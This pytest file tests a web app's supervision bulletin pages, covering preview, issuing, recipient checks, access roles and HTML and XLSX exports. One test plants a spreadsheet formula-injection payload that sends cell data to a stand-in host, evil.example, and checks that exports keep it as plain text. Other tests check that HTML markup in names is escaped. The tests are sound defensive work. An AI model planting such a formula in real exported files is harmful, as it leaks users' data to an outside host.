"""Bulletin pages: preview, issue and send to chosen recipients, download HTML and XLSX."""

from __future__ import annotations

from datetime import date, datetime
from io import BytesIO
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from models import AssignmentRole, Bulletin, ItemState, Milestone, Notification, Role, Source
from testing import factories as f
from tests.web.conftest import SECRET, Web
from web.admin import setup_admin
from web.app import WebConfig, WebDeps, create_app
from web.views.bulletins import setup_bulletin_pages

TZ = ZoneInfo("Asia/Shanghai")


@pytest.fixture
async def office(sessions, clock):
    """Units with on-time, late and open work in October 2026, and the office's people."""
    async with sessions() as s, s.begin():
        good = await f.unit(s, code="G", name="好单位")
        late = await f.unit(s, code="L", name="<b>慢</b>单位")
        i1 = await f.item(s, ref="R-1", title="按期事项", received_on=date(2026, 10, 8))
        a1 = await f.assignment(s, item=i1, unit=good, due_on=date(2026, 10, 20))
        a1.state, a1.closed_at = ItemState.CLOSED.value, datetime(2026, 10, 19, 10, tzinfo=TZ)
        i2 = await f.item(s, ref="R-2", title="逾期事项", received_on=date(2026, 10, 8))
        await f.assignment(s, item=i2, unit=late, due_on=date(2026, 10, 16))
        principal = await f.person(s, name="主要负责同志", unit=late, roles={Role.PRINCIPAL})
        leader = await f.person(s, name="分管领导", unit=late, roles={Role.LEADER})
    return {"principal": principal.id, "leader": leader.id}


async def client_for(sessions, clock, factory, email: str, person_id: int) -> Web:
    deps = WebDeps(config=WebConfig(secret_key=SECRET), sessions=sessions, clock=clock)
    app = create_app(deps, [setup_admin, setup_bulletin_pages, setup_bulletin_pages])
    web_client = Web(await factory(app))
    response = await web_client.login(email, person_id=person_id)
    assert response.status == 303
    return web_client


@pytest.fixture
async def sup(sessions, clock, aiohttp_client_factory, seed) -> Web:
    return await client_for(
        sessions, clock, aiohttp_client_factory, "sup@example.gov.cn", seed.supervisor
    )


@pytest.fixture
async def viewer(sessions, clock, aiohttp_client_factory, seed) -> Web:
    return await client_for(
        sessions, clock, aiohttp_client_factory, "viewer@example.gov.cn", seed.viewer
    )


async def test_preview_and_issue(sup, seed, office, sessions):
    resp = await sup.get("/bulletins")
    assert resp.status == 200
    assert 'value="2026-11"' in await resp.text()  # this month by default
    resp = await sup.get("/bulletins/preview?period=2026-10")
    html = await resp.text()
    assert resp.status == 200
    assert "好单位" in html and "&lt;b&gt;慢&lt;/b&gt;单位" in html and "<b>慢</b>" not in html
    assert "100.0%" in html and "0.0%" in html and "R-2" in html
    # supervisors and principals are ticked; the leader is offered but not ticked
    assert f'value="{seed.supervisor}" checked' in html
    assert f'value="{office["principal"]}" checked' in html
    assert f'value="{office["leader"]}">' in html

    resp = await sup.post("/bulletins", {"period": "2026-10"})
    assert resp.status == 400
    assert "请至少选择一名接收人" in await resp.text()
    async with sessions() as s:
        assert (await s.scalars(select(Bulletin))).all() == []

    resp = await sup.post(
        "/bulletins",
        {"period": "2026-10", "recipient": [str(seed.supervisor), str(office["leader"])]},
    )
    assert resp.status == 303
    async with sessions() as s:
        bulletin = (await s.scalars(select(Bulletin))).one()
        rows = (await s.scalars(select(Notification))).all()
    assert resp.headers["Location"] == f"/bulletins/{bulletin.id}?queued=2"
    assert {(r.recipient_id, r.kind) for r in rows} == {
        (seed.supervisor, "bulletin"),
        (office["leader"], "bulletin"),
    }
    assert all(r.payload == {"bulletin_id": bulletin.id} for r in rows)
    assert bulletin.data["number"] == "2026年第1期"
    resp = await sup.get(resp.headers["Location"])
    assert resp.status == 200
    assert "2026年第1期" in await resp.text()


async def test_recipients_outside_the_offered_list_are_ignored(sup, seed, office, sessions):
    resp = await sup.post("/bulletins", {"period": "2026-10", "recipient": str(seed.liaison_a)})
    assert resp.status == 400
    async with sessions() as s:
        assert (await s.scalars(select(Notification))).all() == []


async def test_downloads(sup, seed, office, sessions):
    resp = await sup.get("/bulletins/preview.xlsx?period=2026-10")
    assert resp.status == 200
    assert resp.headers["Content-Disposition"] == 'attachment; filename="bulletin-2026-10.xlsx"'
    wb = load_workbook(BytesIO(await resp.read()))
    assert wb.sheetnames == ["通报", "逾期事项"]
    ws = wb["通报"]
    values = [[c.value for c in row] for row in ws.iter_rows()]
    header = values.index(
        [
            "排名",
            "单位",
            "交办",
            "办结",
            "按期办结",
            "逾期办结",
            "逾期未办结",
            "逾期合计",
            "延期",
            "按期率",
        ]
    )
    assert values[header + 1] == [1, "好单位", 1, 1, 1, 0, 0, 0, 0, 1]
    assert values[header + 2] == [2, "<b>慢</b>单位", 1, 0, 0, 0, 1, 1, 0, 0]
    late = [[c.value for c in row] for row in wb["逾期事项"].iter_rows()]
    assert late[1][:3] == ["R-2", "逾期事项", "<b>慢</b>单位"]
    assert late[1][4] == 10  # working days after Fri 10-16 up to Sat 10-31

    await sup.post("/bulletins", {"period": "2026-10", "recipient": str(seed.supervisor)})
    async with sessions() as s:
        bulletin = (await s.scalars(select(Bulletin))).one()
    resp = await sup.get(f"/bulletins/{bulletin.id}.html")
    assert resp.status == 200
    html = await resp.text()
    assert "督查通报" in html and "2026年第1期" in html and "通报表扬" in html
    assert "&lt;b&gt;慢&lt;/b&gt;单位" in html and "<b>慢</b>" not in html
    assert "<script" not in html
    assert (await sup.get(f"/bulletins/{bulletin.id + 1}.xlsx")).status == 404
    assert (await sup.get(f"/bulletins/{bulletin.id}.xlsx")).status == 200


async def test_exported_names_never_become_formulas(sup, seed, office, sessions):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
    async with sessions() as s, s.begin():
        unit = await f.unit(s, code="H", name=hostile)
        item = await f.item(s, ref="-1+1", title="@SUM(1)", received_on=date(2026, 10, 8))
        await f.assignment(s, item=item, unit=unit, due_on=date(2026, 10, 16))
    resp = await sup.get("/bulletins/preview.xlsx?period=2026-10")
    assert resp.status == 200
    wb = load_workbook(BytesIO(await resp.read()))
    names = [row[1] for row in wb["通报"].iter_rows() if row[1].value == hostile]
    assert names and all(c.data_type == "s" for c in names)
    late = next(row for row in wb["逾期事项"].iter_rows() if row[0].value == "-1+1")
    assert [(c.value, c.data_type) for c in late[:3]] == [
        ("-1+1", "s"),
        ("@SUM(1)", "s"),
        (hostile, "s"),
    ]
    formulas = [c for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


async def test_roles(viewer, sup, anon, seed, office, sessions, clock, aiohttp_client_factory):
    resp = await viewer.get("/bulletins/preview?period=2026-10")
    assert resp.status == 200
    assert 'name="recipient"' not in await resp.text()
    assert (
        await viewer.post("/bulletins", {"period": "2026-10", "recipient": str(seed.viewer)})
    ).status == 403
    liaison = await client_for(
        sessions, clock, aiohttp_client_factory, "liaison@example.gov.cn", seed.liaison_a
    )
    assert (await liaison.get("/bulletins")).status == 403
    assert (await liaison.get("/bulletins/preview.xlsx?period=2026-10")).status == 403
    assert (await anon.get("/bulletins")).status == 303
    resp = await sup.get("/bulletins/preview?period=2026-13")
    assert resp.status == 400
    assert "month must be 01-12" in await resp.text()
    resp = await sup.get("/bulletins/preview?period=2027-01")
    assert resp.status == 400 and "not started" in await resp.text()


async def test_exports_of_an_empty_period_and_an_unjudged_unit(session):
    from supervision.bulletins import compute_bulletin
    from supervision.calendar import WorkCalendar
    from supervision.periods import parse_period
    from web.bulletin_export import render_html, render_xlsx

    empty = await compute_bulletin(
        session, parse_period("2026-W44"), today=date(2026, 11, 2), calendar=WorkCalendar(), tz=TZ
    )
    html = render_html(empty.as_json(), office_name="督查室")
    assert "本期无督查事项" in html and "通报表扬" not in html
    wb = load_workbook(BytesIO(render_xlsx(empty.as_json(), office_name="督查室")))
    assert wb["通报"]["A1"].value == "督查室督查通报"
    unit = await f.unit(session, name="新单位")
    item = await f.item(session, received_on=date(2026, 10, 26), due_on=date(2026, 12, 30))
    await f.assignment(session, item=item, unit=unit)
    data = await compute_bulletin(
        session, parse_period("2026-W44"), today=date(2026, 11, 2), calendar=WorkCalendar(), tz=TZ
    )
    wb = load_workbook(BytesIO(render_xlsx(data.as_json(), office_name="督查室")))
    rows = [[c.value for c in row] for row in wb["通报"].iter_rows()]
    # Nothing due: listed apart under 本期无到期事项, not ranked (issue #12 §5).
    assert ["本期无到期事项", None, None, None, None, None, None, None, None, None] in rows
    assert ["—", "新单位", 1, 0, 0, 0, 0, 0, 0, "—"] in rows
    html = render_html(data.as_json(), office_name="督查室")
    assert "本期无到期事项" in html and "新单位" in html


OLD_BULLETIN = {
    "number": "2026年第1期",
    "period": "2026-10",
    "period_kind": "month",
    "period_label": "2026年10月",
    "starts_on": "2026-10-01",
    "ends_on": "2026-10-31",
    "as_of": "2026-10-31",
    "issued_on": "2026-11-02",
    "rows": [
        {
            "rank": 1,
            "unit_id": 1,
            "unit_code": "G",
            "unit_name": "旧好单位",
            "assigned": 1,
            "closed_in_period": 1,
            "closed_on_time": 1,
            "closed_late": 0,
            "open_overdue": 0,
            "overdue": 0,
            "extensions": 0,
            "on_time_rate": 1.0,
        },
        {
            "rank": 2,
            "unit_id": 2,
            "unit_code": "I",
            "unit_name": "旧无事单位",
            "assigned": 1,
            "closed_in_period": 0,
            "closed_on_time": 0,
            "closed_late": 0,
            "open_overdue": 0,
            "overdue": 0,
            "extensions": 0,
            "on_time_rate": None,
        },
    ],
    "overdue_items": [
        {
            "assignment_id": 9,
            "item_id": 9,
            "ref": "OLD-1",
            "title": "旧逾期",
            "unit_name": "旧慢单位",
            "due_on": "2026-10-16",
            "days_overdue": 10,
            "closed_late": False,
        }
    ],
    "praised_units": ["旧好单位"],
    "urged_units": ["旧慢单位"],
    "totals": {
        "assigned": 2,
        "closed_in_period": 1,
        "closed_on_time": 1,
        "overdue": 0,
        "extensions": 0,
        "on_time_rate": 1.0,
    },
}


async def test_a_bulletin_frozen_before_lead_and_co_were_split_still_renders(
    sup, seed, sessions, clock
):
    async with sessions() as s, s.begin():
        old = Bulletin(
            period="2026-10",
            starts_on=date(2026, 10, 1),
            ends_on=date(2026, 10, 31),
            data=OLD_BULLETIN,
            created_at=clock.now(),
        )
        s.add(old)
    resp = await sup.get(f"/bulletins/{old.id}")
    assert resp.status == 200
    page = await resp.text()
    assert "旧好单位" in page and "旧无事单位" in page and "OLD-1" in page
    assert "协办单位排名" not in page
    html = await (await sup.get(f"/bulletins/{old.id}.html")).text()
    assert "旧无事单位" in html and "旧慢单位" in html
    resp = await sup.get(f"/bulletins/{old.id}.xlsx")
    assert resp.status == 200
    wb = load_workbook(BytesIO(await resp.read()))
    rows = [[c.value for c in row] for row in wb["通报"].iter_rows()]
    assert [2, "旧无事单位", 1, 0, 0, 0, 0, 0, 0, "—"] in rows
    late = [[c.value for c in row] for row in wb["逾期事项"].iter_rows()]
    assert late[1][:6] == ["OLD-1", "旧逾期", "旧慢单位", "2026-10-16", 10, "逾期未办结"]


async def test_pages_show_lead_and_co_rankings_and_urged_details(sup, seed, sessions):
    async with sessions() as s, s.begin():
        lead = await f.unit(s, code="LD", name="主办局")
        co = await f.unit(s, code="CO", name="协办局")
        item = await f.item(s, ref="R-9", title="联办事项", received_on=date(2026, 10, 8))
        await f.assignment(s, item=item, unit=lead, due_on=date(2026, 10, 16))
        await f.assignment(s, item=item, unit=co, due_on=date(2026, 10, 16), role=AssignmentRole.CO)
    page = await (await sup.get("/bulletins/preview?period=2026-10")).text()
    assert "主办单位排名" in page and "协办单位排名" in page
    assert 'id="unit-' in page and "-co" in page
    assert "R-9 (10)" in page
    html = await (await sup.get("/bulletins/preview.html?period=2026-10")).text()
    assert "协办单位排名" in html and "共逾期 10 个工作日" in html


async def test_the_preview_shows_milestone_punctuality_of_annual_tasks(sup, seed, sessions):
    async with sessions() as s, s.begin():
        unit = await f.unit(s, code="M", name="节点单位")
        task = await f.item(s, ref="NT-1", source=Source.ANNUAL_TASK, received_on=date(2026, 10, 8))
        s.add(Milestone(item_id=task.id, name="方案", due_on=date(2026, 10, 16), unit_id=unit.id))
    html = await (await sup.get("/bulletins/preview?period=2026-10")).text()
    section = html.split('id="milestone-punctuality"', 1)[1].split("</table>", 1)[0]
    assert "年度重点工作节点按期率" in html
    assert f'id="milestones-unit-{unit.id}"' in section and "0.0%" in section


async def test_the_page_lists_overdue_work_fifty_at_a_time(sup, seed, office, sessions):
    async with sessions() as s, s.begin():
        unit = await f.unit(s, code="M", name="多单位")
        for n in range(54):
            item = await f.item(
                s, ref=f"M-{n:02d}", title=f"逾期{n:02d}", received_on=date(2026, 9, 1)
            )
            await f.assignment(s, item=item, unit=unit, due_on=date(2026, 10, 9))
    first = await (await sup.get("/bulletins/preview?period=2026-10")).text()
    assert first.count('<tr><td><a href="/items/') == 50 and "共 55 条" in first
    assert 'href="/bulletins/preview?period=2026-10&amp;overdue_page=2"' in first
    second = await (await sup.get("/bulletins/preview?period=2026-10&overdue_page=2")).text()
    assert second.count('<tr><td><a href="/items/') == 5 and "R-2" in second
    whole = await sup.get("/bulletins/preview.html?period=2026-10")
    assert (await whole.text()).count("M-") >= 54  # the download names every one
